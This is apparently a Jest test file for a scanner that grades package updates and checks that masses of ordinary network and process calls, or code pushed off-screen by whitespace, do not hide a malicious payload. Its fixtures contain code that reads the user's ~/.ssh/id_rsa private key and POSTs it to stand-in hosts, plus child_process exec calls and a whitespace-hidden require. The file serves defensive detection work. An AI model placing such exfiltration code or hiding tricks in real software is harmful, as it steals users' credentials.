import { describe, expect, it } from '@jest/globals';
import { Gathering } from '../../src/code/gathering.ts';
import { SourceText } from '../../src/code/source-text.ts';
import { gradesOf } from '../helpers/an-update.ts';

const takes = `const fs = require('fs'); fetch('https://in.invalid', { method: 'POST', body: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa') });`;
const old = { 'index.js': 'fetch("https://one.example/x"); require("child_process").exec("ls");' };

/** Files that do many things that the release before did as well, and what comes after them. */
const behind = (files: number, last: Readonly<Record<string, string>>) => {
  const line = (file: number, at: number): string => `fetch("https://h${file}x${at}.example/x"); require("child_process").exec("ls ${file} ${at}");`;
  const much = Array.from(
    { length: files },
    (_, file) => [`lib/${file}.js`, Array.from({ length: 20 }, (_, at) => line(file, at)).join('\n')] as const,
  );
  const paths = [...much.map(([path]) => path), ...Object.keys(last)];
  return { ...Object.fromEntries(much), ...last, 'index.js': paths.map((path) => `require('./${path}');`).join('\n') };
};

describe('much that is common', () => {
  it.each([40, 100])('in %i files does not hide what comes after it', async (files) => {
    expect((await gradesOf(old, behind(files, { 'zz.js': takes }))).import.grade).toBe('convicts');
  });

  it('and waits does not hide what runs', async () => {
    const waits = Array.from({ length: 60 }, (_, at) => `exports.f${at} = () => fetch('https://w${at}.invalid', { method: 'POST', body: read() });`);
    const read = "const read = () => require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa');";
    expect((await gradesOf(old, { 'index.js': `${read}\n${waits.join('\n')}\n${takes}` })).import.grade).toBe('convicts');
  });

  it('does not hide how something is hidden', async () => {
    const names = Array.from({ length: 700 }, (_, at) => [`lib/${at}.js`, `const p = require("child_" + "process"); p.exec("x${at}");`] as const);
    const paths = [...names.map(([path]) => path), 'zz.js'];
    const files = { ...Object.fromEntries(names), 'zz.js': `module.exports = 1;${' '.repeat(300)}require("./x")();` };
    const { contents } = await gradesOf(old, { ...files, 'index.js': paths.map((path) => `require('./${path}');`).join('\n') });
    expect(contents.hiding.map(({ kind }) => kind)).toContain('off-screen');
  });

  it('is said where it is more than is told', () => {
    const found = new Gathering();
    const source = (at: number): SourceText => new SourceText(`lib/${at}.js`, new Uint8Array());
    const network = (at: number) => ({ kind: 'network', detail: `h${at}.example`, at: 0, readAs: 'written' }) as const;
    for (let at = 0; at < 20_000; at++) found.capability(network(at), source(at >> 2), 'import');
    expect([...found.untold]).toEqual([]);
    found.capability(network(0), source(6000), 'shipped');
    found.capability(network(0), source(6001), 'import');
    expect([...found.untold]).toEqual(['lib/6001.js']);
  });
});
